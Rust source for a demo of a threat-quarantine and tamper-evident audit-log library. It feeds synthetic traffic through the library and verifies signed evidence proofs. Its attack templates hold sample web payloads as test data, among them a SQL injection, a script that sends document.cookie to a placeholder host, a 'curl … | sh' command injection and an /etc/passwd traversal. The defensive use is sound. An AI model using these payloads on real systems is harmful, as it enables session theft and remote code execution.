//! `tracehound demo`: a realistic mixed workload through one real `Tracehound` on its default
//! configuration, with a durable audit log. Everything printed is computed from the run: the
//! snapshot's counters, the audit log's root, a checkpoint signed on demand, an evidence proof
//! verified with only the public key, and the events a subscriber received.

use std::cmp::Reverse;
use std::collections::BTreeMap;
use std::fs;
use std::io::{IsTerminal, Write};
use std::path::{Path, PathBuf};
use std::thread;
use std::time::{Duration, Instant, SystemTime};

use serde_json::{Value, json};
use tracehound::audit::{
    EvidenceProof, SignedCheckpoint, VerifiedEvidence, VerifierKey, VerifyError,
};
use tracehound::{
    AuditStats, CanonicalForm, Category, Config, Digest, EventKind, Receipt, Scent, Severity,
    Signature, Snapshot, Tracehound, canonicalize,
};

/// Names the demo's log in checkpoint origins and in its key name.
const DEPLOYMENT: &str = "demo.tracehound.local";

/// The evidence proof bundle the demo exports, in the audit directory.
const PROOF_FILE: &str = "evidence-proof.tlog-proof";

/// Lines of the bundle shown: the header, the record and the leaf index.
const PROOF_LINES_SHOWN: usize = 3;

/// One request of the workload.
#[derive(Debug, Clone, Copy)]
enum Request {
    /// Ordinary browsing from one of many sources.
    Clean { source: u32, page: u32 },
    /// A client hammering one endpoint far past its quota.
    Flood { source: u32, n: u32 },
    /// An attack the upstream detector flagged; each is sent several times.
    Attack {
        pattern: usize,
        variant: u32,
        source: u32,
    },
    /// Part of a credential-stuffing burst: many distinct low-value threats.
    Burst { n: u32 },
    /// A flagged upload far over the payload limit.
    Oversized,
    /// A flagged payload nested deeper than the depth limit.
    TooDeep,
}

/// Attack templates: what the detector called them, how bad, and the payload they carry.
const ATTACKS: [(&str, Severity, &str, &str); 6] = [
    (
        "injection",
        Severity::Critical,
        "/login",
        "' OR '1'='1' -- ",
    ),
    (
        "injection",
        Severity::High,
        "/search",
        "<script>fetch('//x.example/'+document.cookie)</script>",
    ),
    (
        "injection",
        Severity::Critical,
        "/export",
        "; curl http://203.0.113.66/x | sh #",
    ),
    ("malware", Severity::High, "/upload", "UEsDBBQAAAAIA"),
    (
        "unknown",
        Severity::Medium,
        "/files",
        "../../../../etc/passwd",
    ),
    ("scanner", Severity::Low, "/.env", "GET /.env HTTP/1.1"),
];

/// A small deterministic generator (xorshift64*), so a seed always gives the same run.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn below(&mut self, n: u32) -> u32 {
        (self.next() % u64::from(n.max(1))) as u32
    }
}

fn workload(seed: u64, scale: u32) -> Vec<Request> {
    let mut rng = Rng(seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1);
    let mut requests = Vec::new();
    for source in 0..2_000 * scale {
        for page in 0..20 {
            requests.push(Request::Clean { source, page });
        }
    }
    for source in 0..4 {
        for n in 0..1_000 * scale {
            requests.push(Request::Flood { source, n });
        }
    }
    for pattern in 0..ATTACKS.len() {
        for variant in 0..50 * scale {
            for _ in 0..3 {
                let source = rng.below(400);
                requests.push(Request::Attack {
                    pattern,
                    variant,
                    source,
                });
            }
        }
    }
    for n in 0..12_000 * scale {
        requests.push(Request::Burst { n });
    }
    requests.push(Request::Oversized);
    requests.push(Request::TooDeep);
    // Interleave everything, as real traffic would be.
    for i in (1..requests.len()).rev() {
        let j = rng.below(i as u32 + 1) as usize;
        requests.swap(i, j);
    }
    requests
}

fn http_request(method: &str, path: &str, query: Value, agent: &str, body: Value) -> Value {
    json!({
        "method": method,
        "path": path,
        "query": query,
        "headers": {"user-agent": agent, "accept": "application/json"},
        "body": body,
    })
}

fn scent(request: Request) -> Scent {
    match request {
        Request::Clean { source, page } => Scent::new(
            format!("198.51.{}.{}", source / 250, source % 250),
            http_request(
                "GET",
                "/catalog",
                json!({"page": page}),
                "Mozilla/5.0",
                Value::Null,
            ),
        ),
        Request::Flood { source, n } => Scent::new(
            format!("203.0.113.{}", 200 + source),
            http_request(
                "POST",
                "/api/quote",
                json!({}),
                "python-requests/2.31",
                json!({"n": n}),
            ),
        ),
        Request::Attack {
            pattern,
            variant,
            source,
        } => {
            let (category, severity, path, payload) = ATTACKS[pattern];
            let category = Category::custom(category).unwrap_or(Category::Unknown);
            Scent::new(
                format!("192.0.2.{}", source % 250),
                http_request(
                    "POST",
                    path,
                    json!({"v": variant}),
                    "sqlmap/1.7",
                    json!({"input": payload}),
                ),
            )
            .with_threat(category, severity)
        }
        Request::Burst { n } => {
            let category = Category::custom("credential-stuffing").unwrap_or(Category::Unknown);
            let severity = if n % 5 == 0 {
                Severity::Medium
            } else {
                Severity::Low
            };
            Scent::new(
                format!("100.64.{}.{}", (n / 10) / 250 % 250, (n / 10) % 250),
                http_request(
                    "POST",
                    "/login",
                    json!({}),
                    "okhttp/4.9",
                    json!({"user": format!("user{n}@example.com"), "password": "<redacted by adapter>"}),
                ),
            )
            .with_threat(category, severity)
        }
        Request::Oversized => Scent::new(
            "192.0.2.250",
            http_request(
                "PUT",
                "/upload",
                json!({}),
                "curl/8.4",
                json!({"blob": "A".repeat(2_000_000)}),
            ),
        )
        .with_threat(Category::Malware, Severity::High),
        Request::TooDeep => {
            let mut nested = json!("payload");
            for _ in 0..200 {
                nested = json!([nested]);
            }
            Scent::new("192.0.2.251", nested).with_threat(Category::Ddos, Severity::Medium)
        }
    }
}

/// Shows progress on standard error: a redrawn bar on a terminal, a line per tenth otherwise.
struct Progress {
    total: usize,
    terminal: bool,
    shown: usize,
}

impl Progress {
    fn new(total: usize) -> Self {
        Self {
            total,
            terminal: std::io::stderr().is_terminal(),
            shown: 0,
        }
    }

    fn update(&mut self, done: usize, snapshot: impl FnOnce() -> Snapshot) {
        let step = if self.terminal { 200 } else { 10 };
        let tick = done * step / self.total.max(1);
        if tick == self.shown && done != self.total {
            return;
        }
        self.shown = tick;
        let snap = snapshot();
        let line = format!(
            "{:>3}% {:>9} requests | quarantine {:>6} | rate limited {:>6} | audit {:>7} leaves",
            done * 100 / self.total.max(1),
            group(done as u64),
            group(snap.quarantine.count as u64),
            group(snap.outcomes.rate_limited),
            group(snap.audit.size),
        );
        let mut err = std::io::stderr();
        if self.terminal {
            let _ = write!(err, "\r{line}");
            if done == self.total {
                let _ = writeln!(err);
            }
        } else {
            let _ = writeln!(err, "{line}");
        }
    }
}

/// A directory made for one run under the system's temporary directory, removed when the
/// run ends (also when it fails).
struct TempDir {
    path: PathBuf,
    removed: bool,
}

impl TempDir {
    fn create() -> Result<TempDir, String> {
        let nanos = SystemTime::now()
            .duration_since(SystemTime::UNIX_EPOCH)
            .map_or(0, |since| since.as_nanos());
        let path =
            std::env::temp_dir().join(format!("tracehound-demo-{}-{nanos}", std::process::id()));
        // `create_dir`, not `create_dir_all`: a path that already exists is not ours to use.
        fs::create_dir(&path)
            .map_err(|e| format!("cannot create the directory {}: {e}", path.display()))?;
        Ok(TempDir {
            path,
            removed: false,
        })
    }

    fn remove(mut self) -> Result<(), String> {
        self.removed = true;
        fs::remove_dir_all(&self.path)
            .map_err(|e| format!("cannot remove the directory {}: {e}", self.path.display()))
    }
}

impl Drop for TempDir {
    fn drop(&mut self) {
        if !self.removed {
            let _ = fs::remove_dir_all(&self.path);
        }
    }
}

/// What the demo did with the audit log after the workload.
struct AuditDemo {
    /// The log's directory.
    dir: PathBuf,
    /// Whether the directory is removed when the demo ends.
    temporary: bool,
    /// The checkpoint signed on demand.
    checkpoint: SignedCheckpoint,
    /// The verifier key, as text.
    vkey: String,
    /// The evidence proof exported and checked.
    proof: ProofDemo,
}

/// An evidence proof bundle: exported, verified with only the public key, and tampered with.
struct ProofDemo {
    /// The evidence proven.
    receipt: Receipt,
    /// The bundle's file.
    path: PathBuf,
    /// Its size, bytes.
    bytes: usize,
    /// Its first lines.
    head: Vec<String>,
    /// What verifying the file proved.
    verified: VerifiedEvidence,
    /// Whether the evidence bytes were checked against the record.
    evidence_checked: bool,
    /// Why the tampered copy did not verify.
    tampered: VerifyError,
}

pub(crate) fn run(seed: u64, scale: u32, audit_dir: Option<&Path>) -> Result<(), String> {
    // Declared before the `Tracehound` so that it is removed after the log is closed.
    let (dir, temporary) = match audit_dir {
        Some(dir) => (dir.to_path_buf(), None),
        None => {
            let temp = TempDir::create()?;
            (temp.path.clone(), Some(temp))
        }
    };
    let mut config = Config::default();
    config.audit.dir = Some(dir.clone());
    config.audit.deployment = DEPLOYMENT.to_owned();
    let tracehound = Tracehound::builder()
        .config(config)
        .build()
        .map_err(|e| format!("cannot build tracehound: {e}"))?;
    let subscription = tracehound
        .subscribe(tracehound.config().events.max_queue)
        .map_err(|e| format!("cannot subscribe: {e}"))?;
    let listener = thread::Builder::new()
        .name("demo-events".into())
        .spawn(move || {
            let mut seen: BTreeMap<&'static str, u64> = BTreeMap::new();
            while let Some(event) = subscription.recv() {
                *seen.entry(event_name(event.kind())).or_default() += 1;
            }
            (seen, subscription.dropped())
        })
        .map_err(|e| format!("cannot start the event listener: {e}"))?;

    let requests = workload(seed, scale);
    eprintln!(
        "tracehound demo: {} requests (seed {seed}) through one Tracehound on its default configuration, \
         audit log in {}",
        group(requests.len() as u64),
        dir.display(),
    );
    let mut progress = Progress::new(requests.len());
    let started = Instant::now();
    let mut intercept_time = Duration::ZERO;
    for (i, request) in requests.iter().enumerate() {
        let scent = scent(*request);
        let start = Instant::now();
        tracehound.intercept(&scent);
        intercept_time += start.elapsed();
        progress.update(i + 1, || tracehound.snapshot());
    }
    let elapsed = started.elapsed();
    let audit = demonstrate_audit(&tracehound, &requests, dir.clone(), temporary.is_some())?;
    // Taken after the audit demonstration, so its figures count the checkpoint it signed and
    // the events it published.
    let snapshot = tracehound.snapshot();
    let verified = tracehound
        .list()
        .iter()
        .filter(|r| tracehound.verify_evidence(r.signature()).is_ok())
        .count();
    // Dropping the last handle closes the event stream once the listener has drained it.
    drop(tracehound);
    let (events_seen, events_lost) = listener
        .join()
        .map_err(|_| "the event listener failed".to_string())?;
    report(
        &snapshot,
        &audit,
        &events_seen,
        events_lost,
        verified,
        requests.len(),
        elapsed,
        intercept_time,
    );
    temporary.map_or(Ok(()), TempDir::remove)
}

/// Signs a checkpoint on demand, then exports an evidence proof bundle for the
/// highest-severity evidence held and checks it as a third party would: from the file, with
/// only the verifier key's text.
fn demonstrate_audit(
    tracehound: &Tracehound,
    requests: &[Request],
    dir: PathBuf,
    temporary: bool,
) -> Result<AuditDemo, String> {
    let checkpoint = tracehound
        .checkpoint()
        .map_err(|e| format!("cannot sign a checkpoint: {e}"))?;
    let vkey = tracehound.verifier_key().to_string();
    // `list` is highest priority first; the first of the highest severity is kept.
    let receipt = tracehound
        .list()
        .into_iter()
        .min_by_key(|receipt| Reverse(receipt.severity()))
        .ok_or("the quarantine holds no evidence to prove")?;
    let bundle = tracehound
        .prove(receipt.signature())
        .map_err(|e| format!("cannot prove {}: {e}", receipt.signature()))?;
    let path = dir.join(PROOF_FILE);
    fs::write(&path, bundle.to_text())
        .map_err(|e| format!("cannot write {}: {e}", path.display()))?;

    let text =
        fs::read_to_string(&path).map_err(|e| format!("cannot read {}: {e}", path.display()))?;
    let key: VerifierKey = vkey
        .parse()
        .map_err(|e| format!("the verifier key does not parse: {e}"))?;
    let keys = [key];
    let verified = EvidenceProof::parse(&text)
        .and_then(|proof| proof.verify(&keys, None))
        .map_err(|e| format!("the evidence proof does not verify: {e}"))?;
    let form = tracehound.config().canonical_form;
    let evidence_checked = match flagged_evidence(requests, receipt.signature(), form) {
        Some(canonical) => {
            verified
                .check_evidence(&canonical)
                .map_err(|e| format!("the evidence proof verifies but {e}"))?;
            true
        }
        None => false,
    };
    let tampered_text = tamper(&text).ok_or("the evidence proof has no record line")?;
    let tampered = match EvidenceProof::parse(&tampered_text).and_then(|p| p.verify(&keys, None)) {
        Ok(_) => return Err("a tampered evidence proof verified".into()),
        Err(e) => e,
    };
    Ok(AuditDemo {
        dir,
        temporary,
        checkpoint,
        vkey,
        proof: ProofDemo {
            receipt,
            path,
            bytes: text.len(),
            head: text
                .lines()
                .take(PROOF_LINES_SHOWN)
                .map(str::to_owned)
                .collect(),
            verified,
            evidence_checked,
            tampered,
        },
    })
}

/// The canonical bytes of the workload's request whose evidence `signature` names.
///
/// The quarantine never hands payloads out; a host that checks evidence against a proof
/// keeps its own copy of what it flagged, which the demo re-creates from its workload.
fn flagged_evidence(
    requests: &[Request],
    signature: &Signature,
    form: CanonicalForm,
) -> Option<Vec<u8>> {
    requests
        .iter()
        .filter(|r| matches!(r, Request::Attack { .. } | Request::Burst { .. }))
        .map(|r| scent(*r))
        .filter(|s| {
            s.threat()
                .is_some_and(|threat| threat.category == *signature.category())
        })
        .find_map(|s| {
            let canonical = canonicalize(s.payload(), form).ok()?;
            (Digest::of(&canonical) == *signature.digest()).then_some(canonical)
        })
}

/// `text` with one character of its record (`extra`) line replaced by another base64
/// character, so the bundle still parses and the change reaches verification.
fn tamper(text: &str) -> Option<String> {
    const RECORD_LINE: &str = "\nextra ";
    // Well inside the line, where every base64 character carries record bits.
    const OFFSET: usize = 8;
    let start = text.find(RECORD_LINE)? + RECORD_LINE.len();
    let line = text[start..].split('\n').next()?;
    let old = *line.as_bytes().get(OFFSET)?;
    if !old.is_ascii_alphanumeric() {
        return None;
    }
    let at = start + OFFSET;
    let mut tampered = text.to_owned();
    tampered.replace_range(at..=at, if old == b'A' { "B" } else { "A" });
    Some(tampered)
}

fn event_name(kind: &EventKind) -> &'static str {
    match kind {
        EventKind::ThreatDetected { .. } => "threat detected",
        EventKind::EvidenceQuarantined(_) => "evidence quarantined",
        EventKind::EvidenceEvicted { .. } => "evidence evicted",
        EventKind::EvidenceDropped { .. } => "evidence dropped",
        EventKind::EvidenceNeutralized { .. } => "evidence neutralized",
        EventKind::EvidencePurged { .. } => "evidence purged",
        EventKind::EvidenceReplaced { .. } => "evidence replaced",
        EventKind::EvidenceExpired { .. } => "evidence expired",
        EventKind::CheckpointSigned(_) => "checkpoint signed",
        EventKind::RateLimitExceeded { .. } => "rate limit exceeded",
        EventKind::InterceptFailed { .. } => "intercept failed",
        _ => "other",
    }
}

#[allow(clippy::too_many_arguments)] // one report, many figures
fn report(
    snap: &Snapshot,
    audit: &AuditDemo,
    events: &BTreeMap<&'static str, u64>,
    events_lost: u64,
    verified: usize,
    requests: usize,
    elapsed: Duration,
    intercept_time: Duration,
) {
    let o = &snap.outcomes;
    let q = &snap.quarantine;
    let r = &snap.rate_limit;
    let a = &snap.audit;
    println!();
    println!(
        "{} requests in {:.2} s; intercept took {:.2} µs on average ({} per second of intercept time)",
        group(requests as u64),
        elapsed.as_secs_f64(),
        intercept_time.as_secs_f64() * 1e6 / requests.max(1) as f64,
        group((requests as f64 / intercept_time.as_secs_f64().max(1e-9)) as u64),
    );
    println!();
    println!("Outcomes");
    for (name, count) in [
        ("clean", o.clean),
        ("rate limited", o.rate_limited),
        ("payload too large", o.payload_too_large),
        ("unencodable", o.unencodable),
        ("ignored (known threat)", o.ignored),
        ("quarantined", o.quarantined),
        ("dropped (lowest priority)", o.dropped),
        ("error", o.error),
    ] {
        println!("  {name:<26}{:>10}", group(count));
    }
    println!();
    println!(
        "Quarantine  {} / {} entries, {} / {} bytes (fill {:.0} %), {} verified intact",
        group(q.count as u64),
        group(q.max_count as u64),
        group(q.bytes as u64),
        group(q.max_bytes as u64),
        q.fill_ratio * 100.0,
        group(verified as u64),
    );
    println!(
        "  critical {}   high {}   medium {}   low {}",
        group(q.by_severity.critical as u64),
        group(q.by_severity.high as u64),
        group(q.by_severity.medium as u64),
        group(q.by_severity.low as u64),
    );
    println!();
    println!(
        "Rate limiter  {} sources tracked, {} blocked now, {} forgotten at the cap of {}",
        group(r.tracked_keys as u64),
        group(r.blocked_keys as u64),
        group(r.evicted_keys),
        group(r.max_keys as u64),
    );
    println!();
    print_audit(a, audit);
    println!();
    let seen: u64 = events.values().sum();
    println!(
        "Events  {} received of {} published, {} lost to a full queue",
        group(seen),
        group(snap.events.published),
        group(events_lost),
    );
    for (name, count) in events {
        println!("  {name:<26}{:>10}", group(*count));
    }
}

fn print_audit(a: &AuditStats, demo: &AuditDemo) {
    let lifetime = if demo.temporary {
        "temporary: removed when the demo ends"
    } else {
        "kept"
    };
    println!(
        "Audit log  {} leaves, durable in {} ({lifetime})",
        group(a.size),
        demo.dir.display()
    );
    println!(
        "  epoch {}   size {}   durable size {}",
        a.epoch,
        group(a.size),
        group(a.durable_size)
    );
    println!("  root {}", a.root);
    let last = a.last_checkpoint_age.map_or_else(
        || "none yet".to_owned(),
        |age| format!("{:.2} s ago", age.as_secs_f64()),
    );
    println!(
        "  checkpoints signed {} (last {last})   append failures {}   lost {}   gaps {}",
        group(a.checkpoints),
        group(a.append_failures),
        group(a.lost),
        group(a.gaps),
    );
    let rec = &a.records;
    println!(
        "  quarantined {}   evicted {}   dropped {}   neutralized {}   purged {}   replaced {}   expired {}",
        group(rec.quarantined),
        group(rec.evicted),
        group(rec.dropped),
        group(rec.neutralized),
        group(rec.purged),
        group(rec.replaced),
        group(rec.expired),
    );
    println!();
    println!(
        "Checkpoint signed on demand: a C2SP signed note, to ship off the host (SIEM, witness, WORM bucket)"
    );
    for line in demo.checkpoint.note().lines() {
        if line.is_empty() {
            println!();
        } else {
            println!("    {line}");
        }
    }
    println!("  verifier key  {}", demo.vkey);
    println!();

    let proof = &demo.proof;
    let verified = &proof.verified;
    println!(
        "Evidence proof  for the highest-severity evidence held: {} {}",
        proof.receipt.severity(),
        proof.receipt.signature()
    );
    println!(
        "  written to {} ({} bytes), which begins:",
        proof.path.display(),
        group(proof.bytes as u64)
    );
    for line in &proof.head {
        println!("    {line}");
    }
    println!(
        "  verified from the file with only the verifier key: `{}` record, leaf {} of {} under {}",
        verified.record.kind,
        group(verified.index),
        group(verified.checkpoint.size),
        verified.checkpoint.origin,
    );
    if proof.evidence_checked {
        println!("  the flagged request's canonical bytes hash to the record's evidence hash");
    } else {
        println!(
            "  the flagged request was not found again, so the evidence bytes were not checked"
        );
    }
    println!(
        "  one byte of the record line changed: rejected ({})",
        proof.tampered
    );
    println!("  a third party checks it with:");
    println!(
        "    tracehound verify-proof {} --key '{}'",
        shell_quoted(&proof.path),
        demo.vkey
    );
    if demo.temporary {
        println!(
            "  (the file is removed with the temporary directory; pass --audit-dir DIR to keep it)"
        );
    }
}

/// `path` as one shell word: bare when that is safe, else single-quoted.
fn shell_quoted(path: &Path) -> String {
    let text = path.display().to_string();
    let bare = |c: char| c.is_ascii_alphanumeric() || "/._-+=:,@%".contains(c);
    if !text.is_empty() && text.chars().all(bare) {
        text
    } else {
        format!("'{}'", text.replace('\'', r"'\''"))
    }
}

/// `1234567` as `1,234,567`.
fn group(n: u64) -> String {
    let digits = n.to_string();
    let mut out = String::with_capacity(digits.len() + digits.len() / 3);
    for (i, c) in digits.chars().enumerate() {
        if i > 0 && (digits.len() - i).is_multiple_of(3) {
            out.push(',');
        }
        out.push(c);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn digits_are_grouped() {
        assert_eq!(group(0), "0");
        assert_eq!(group(999), "999");
        assert_eq!(group(1000), "1,000");
        assert_eq!(group(1234567), "1,234,567");
    }

    #[test]
    fn tampering_changes_one_base64_character_of_the_record_line() {
        let text = "c2sp.org/tlog-proof@v1\nextra AAECAwQFBgcICQoL\nindex 3\n\nnote\n";
        let tampered = tamper(text).unwrap_or_default();
        assert_eq!(tampered.len(), text.len());
        let changed: Vec<usize> = (0..text.len())
            .filter(|&i| text.as_bytes()[i] != tampered.as_bytes()[i])
            .collect();
        assert_eq!(changed, [text.find("extra ").unwrap_or_default() + 6 + 8]);
        assert_eq!(tamper("c2sp.org/tlog-proof@v1\nindex 3\n"), None);
        assert_eq!(
            tamper("c2sp.org/tlog-proof@v1\nextra AQ==\nindex 3\n"),
            None
        );
    }

    #[test]
    fn paths_are_quoted_for_the_shell_when_needed() {
        assert_eq!(
            shell_quoted(Path::new("/tmp/a-b/c.tlog-proof")),
            "/tmp/a-b/c.tlog-proof"
        );
        assert_eq!(
            shell_quoted(Path::new("/tmp/it's here")),
            r"'/tmp/it'\''s here'"
        );
    }

    #[test]
    fn workload_is_deterministic_and_mixed() {
        let a = workload(7, 1);
        let b = workload(7, 1);
        assert_eq!(format!("{a:?}"), format!("{b:?}"));
        assert_ne!(format!("{a:?}"), format!("{:?}", workload(8, 1)));
        // Interleaved: the first thousand requests hold several kinds.
        let kinds: std::collections::HashSet<_> =
            a[..1000].iter().map(std::mem::discriminant).collect();
        assert!(kinds.len() >= 3);
    }
}
